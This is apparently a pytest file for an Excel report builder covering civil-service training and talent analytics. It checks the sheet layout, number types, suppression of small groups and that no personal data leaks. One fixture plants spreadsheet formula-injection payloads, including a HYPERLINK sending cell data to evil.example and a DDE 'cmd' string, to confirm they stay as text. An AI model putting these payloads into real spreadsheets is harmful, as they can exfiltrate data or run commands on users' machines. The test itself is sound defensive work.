"""The report workbook: one sheet per table behind the view, formatted headers, frozen panes,
numbers as numbers, and text that looks like a formula kept as text (formula injection)."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Iterator

import pytest
from openpyxl import load_workbook

from analytics import metrics
from analytics.core.filters import Filters
from analytics.demo.build import build_demo
from analytics.metrics import extras
from analytics.report import build_report, gather
from analytics.report.workbook import tables
from analytics.store.db import Store
from tests.support.fixtures import Builder, nip, store_of

NIP = re.compile(r"(?<!\d)\d{18}(?!\d)")
EVIL_AGENCY = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
EVIL_UNITS = ("+1", "@x", "-2", "=1+2")
EVIL_TITLE = "=cmd|' /C calc'!A0"
SHEETS_ID = [
    "Tentang",
    "Angka utama",
    "Kesenjangan per kompetensi",
    "Matriks kesenjangan",
    "Tren",
    "Dampak per kompetensi",
    "Dampak per program",
    "20 JP per OPD",
    "Kebutuhan pelatihan",
    "Layanan publik (IKM)",
    "Efek layanan",
    "Talenta ringkasan",
    "Talenta per OPD",
    "Perpindahan kotak",
    "Jabatan berisiko",
]


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
    s = Store(tmp_path_factory.mktemp("wb") / "asn.duckdb")
    code = build_demo(s, employees=1500, seed=13, force=False, out=io.StringIO(), err=io.StringIO())
    assert code == 0
    yield s
    s.close()


@pytest.fixture(scope="module")
def workbook_bytes(demo: Store) -> bytes:
    with demo.snapshot() as snap:
        return build_report(snap.cur, Filters(), "xlsx", "id")


def test_one_sheet_per_table_with_frozen_bold_headers(workbook_bytes: bytes) -> None:
    wb = load_workbook(io.BytesIO(workbook_bytes))
    assert wb.sheetnames == SHEETS_ID
    for ws in wb.worksheets:
        assert ws.freeze_panes == "A2"
        assert all(cell.font.bold for cell in ws[1] if cell.value is not None)


def test_sheets_hold_the_analytics_figures(demo: Store, workbook_bytes: bytes) -> None:
    hide = Filters(small_groups="hide")
    with demo.snapshot() as snap:
        needs = extras.needs_cost(snap.cur, hide)
        trend = metrics.trend(snap.cur, hide.without_year())
        impact = metrics.training_impact(snap.cur, hide.without_year())
    wb = load_workbook(io.BytesIO(workbook_bytes))
    visible = needs[~needs["hidden"]].reset_index(drop=True)
    ws = wb["Kebutuhan pelatihan"]
    assert ws.max_row - 1 == len(visible)
    head = [c.value for c in ws[1]]
    first = {h: c.value for h, c in zip(head, ws[2], strict=True)}
    assert first["Kode OPD"] == visible.at[0, "agency_id"]
    assert first["Pegawai di bawah standar"] == visible.at[0, "employees_below"]
    assert first["Prioritas (Σ kekurangan)"] == pytest.approx(visible.at[0, "priority"])
    ws = wb["Tren"]
    got = [[c.value for c in row] for row in ws.iter_rows(min_row=2)]
    assert [r[0] for r in got] == list(trend["year"])
    assert [r[5] for r in got] == pytest.approx(list(trend["pct_meeting"]))  # full precision
    assert ws.cell(2, 6).number_format == "0.0"  # shown with one decimal
    ws = wb["Dampak per kompetensi"]
    assert ws.max_row - 1 == int((~impact["hidden"]).sum())


def test_numbers_stay_numbers(workbook_bytes: bytes) -> None:
    wb = load_workbook(io.BytesIO(workbook_bytes))
    ws = wb["Kebutuhan pelatihan"]
    for row in ws.iter_rows(min_row=2, max_row=20):
        assert row[5].data_type == "n" and isinstance(row[5].value, int)
        assert row[7].data_type == "n" and isinstance(row[7].value, int | float)


def test_no_person_level_data(demo: Store, workbook_bytes: bytes) -> None:
    with demo.snapshot() as snap:
        people = snap.cur.execute("select nip, name from employees").fetchall()
    wb = load_workbook(io.BytesIO(workbook_bytes))
    texts = [
        c.value
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str)
    ]
    assert not [t for t in texts if NIP.search(t)]  # no 18-digit number in any text
    with zipfile.ZipFile(io.BytesIO(workbook_bytes)) as z:
        xml = "".join(z.read(n).decode("utf-8", "replace") for n in z.namelist())
    assert not [p for p, _ in people if p in xml]  # nor any NIP of the store, anywhere
    assert not [n for _, n in people if f">{n}<" in xml]  # nor a person's name as a cell


@pytest.fixture(scope="module")
def injected() -> Iterator[Store]:
    """A store whose agency, units and programme are named like formulas; six people per unit,
    all below standard in two years, half of them trained in between."""
    b = Builder()
    b.agency("EVIL", EVIL_AGENCY).position("P1").competency("M.1").competency("M.2")
    b.standard("P1", "M.1", 3).standard("P1", "M.2", 3)
    b.training("TR1", EVIL_TITLE, "M.1", "24", "2024-06-30", cost_idr=1_000_000)
    n = 0
    for unit in EVIL_UNITS:
        for _ in range(6):
            n += 1
            b.employee(nip(n), "EVIL", unit, "P1")
            for cid in ("M.1", "M.2"):
                b.assess(nip(n), cid, "2024-03-01", "2.0").assess(nip(n), cid, "2025-03-01", "2.5")
            if n % 2:
                b.attend("TR1", nip(n))
    s = store_of(b)
    yield s
    s.close()


def test_formula_looking_text_stays_text(injected: Store) -> None:
    with injected.snapshot() as snap:
        content = gather(snap.cur, Filters(), "id")
        data = build_report(snap.cur, Filters(), "xlsx", "id")
    # the names did reach the tables...
    raw = tables(content)
    assert set(raw["sh_needs"]["unit"]) == set(EVIL_UNITS)
    assert EVIL_TITLE in set(raw["sh_impact_p"]["title"])
    # ...and come out of the workbook as text cells, never formulas
    wb = load_workbook(io.BytesIO(data))
    found: set[str] = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value in {
                    EVIL_AGENCY,
                    EVIL_TITLE,
                    *EVIL_UNITS,
                }:
                    assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
                    found.add(cell.value)
    assert found == {EVIL_AGENCY, EVIL_TITLE, *EVIL_UNITS}
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in z.read(name).decode(), name  # no formula anywhere


def test_the_service_sheets_hold_the_exports(demo: Store, workbook_bytes: bytes) -> None:
    """Layanan publik: every agency-year of service-link, and the page's estimates of
    service-effect, as the exports give them."""
    from analytics.metrics import service

    wb = load_workbook(io.BytesIO(workbook_bytes))
    with demo.snapshot() as snap:
        link = service.service_link(snap.cur, Filters(small_groups="hide"))
        effect = service.service_effect(snap.cur, Filters(small_groups="hide"))
    rows = list(wb["Layanan publik (IKM)"].iter_rows(min_row=2, values_only=True))
    assert len(rows) == len(link)
    assert [r[3] for r in rows] == pytest.approx(list(link["ikm"]))
    assert [r[4] for r in rows] == list(link["grade"])
    fx = list(wb["Efek layanan"].iter_rows(min_row=2, values_only=True))
    same = effect[(effect["outcome"] == "ikm") & (effect["predictor"] == "mean_jpm")].iloc[0]
    ikm = next(r for r in fx if r[0] == "ikm" and r[1] == "mean_jpm")
    assert ikm[4] == pytest.approx(same["effect"]) and ikm[3] == same["observations"]


def test_the_talent_sheets_hold_the_exports(demo: Store, workbook_bytes: bytes) -> None:
    """talent-summary (by none and by agency), the moves and the posts at risk, as the
    exports and views give them under 'hide': a box of 1-4 people is an empty cell."""
    from datetime import date

    from analytics.metrics import talent as tm
    from analytics.views import talent as tv

    hide = Filters(small_groups="hide")
    with demo.snapshot() as snap:
        summary = tm.talent_summary(snap.cur, Filters())
        by_agency = tv.summary_hidden(snap.cur, hide, "agency")
        raw_agency = tm.talent_summary(snap.cur, Filters(), "agency")
        moves = tv.moves(snap.cur, hide).table
        risk = tv.posts_at_risk(snap.cur, hide, date.today())
    wb = load_workbook(io.BytesIO(workbook_bytes))
    row = [c.value for c in wb["Talenta ringkasan"][2]]
    assert row[:12] == [int(summary.at[0, c]) for c in ["year", "employees", "mapped",
                                                        *(f"box_{b}" for b in range(1, 10))]]  # fmt: skip
    ws = wb["Talenta per OPD"]
    kept = by_agency.dropna(subset=["employees"]).reset_index(drop=True)
    assert ws.max_row - 1 == len(kept)
    raw = raw_agency.set_index("agency_id")
    small_seen = 0
    for cells in ws.iter_rows(min_row=2):
        values = [c.value for c in cells]
        agency = values[1]
        for b in range(1, 10):
            n = int(raw.at[agency, f"box_{b}"])
            shown = values[4 + b]
            if 0 < n < 5:
                small_seen += 1
                assert shown is None
            elif shown is not None:
                assert shown == n
    assert small_seen > 0
    visible = moves[~moves["hidden"]]
    ws = wb["Perpindahan kotak"]
    got = [[c.value for c in r] for r in ws.iter_rows(min_row=2)]
    assert got == [
        [int(r.from_year), int(r.year), int(r.from_box), int(r.to_box), int(r.employees)]
        for r in visible.itertuples()
    ]
    ws = wb["Jabatan berisiko"]
    assert [r[0].value for r in ws.iter_rows(min_row=2)] == list(risk["position_id"])


def test_a_needs_list_longer_than_kept_is_cut_with_a_note(
    demo: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A country's needs list has about two million rows, more than a sheet holds: the report
    keeps the first NEEDS_KEPT (priority order), says so on the About sheet, and its totals and
    row count still cover every visible row."""
    from analytics.report import content

    hide = Filters(small_groups="hide")
    with demo.snapshot() as snap:
        needs = extras.needs_cost(snap.cur, hide)
        visible = needs[~needs["hidden"]].reset_index(drop=True)
        assert len(visible) > 40
        whole = gather(snap.cur, hide, "id", sections=("needs",))
        monkeypatch.setattr(content, "NEEDS_KEPT", 40)
        cut = gather(snap.cur, hide, "id", sections=("needs",))
        book = load_workbook(io.BytesIO(build_report(snap.cur, hide, "xlsx", "id")))
    assert list(cut.needs["agency_id"]) == list(visible["agency_id"].head(40))
    assert cut.needs_rows == whole.needs_rows == len(visible)
    assert cut.needs_totals == whole.needs_totals
    assert book["Kebutuhan pelatihan"].max_row - 1 == 40
    about = [[c.value for c in row] for row in book["Tentang"].iter_rows()]
    note = [r[1] for r in about if r[0] == "Kebutuhan pelatihan"]
    assert f"40 baris prioritas tertinggi dari {len(visible):,}".replace(",", ".") in note[-1]
